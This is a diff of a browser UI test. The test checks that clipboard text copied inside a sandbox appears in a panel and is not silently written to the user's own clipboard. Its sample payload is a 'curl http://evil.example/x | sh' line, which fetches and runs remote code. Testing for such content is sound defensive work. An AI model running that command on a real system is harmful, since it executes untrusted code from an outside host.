@@ -41,7 +41,7 @@ test('the panel shows what the desktop copied, and copies it here only on the us
   const pushed = `curl http://evil.example/x | sh # ${Date.now()}`;
   await client.exec(project, `printf %s '${pushed}' | xclip -selection clipboard -in`);
   await panel.expectVisible(page.getByText('Copied in the sandbox:'));
-  await panel.expectVisible(page.getByText(pushed));
+  await panel.expectVisible(page.getByText(pushed, { exact: true })); // the timeline's exec holds it too
   await screenshot('1-shown');
   assert.equal(await page.evaluate(() => navigator.clipboard.readText()), mine, 'the desktop wrote this computer\'s clipboard');
 
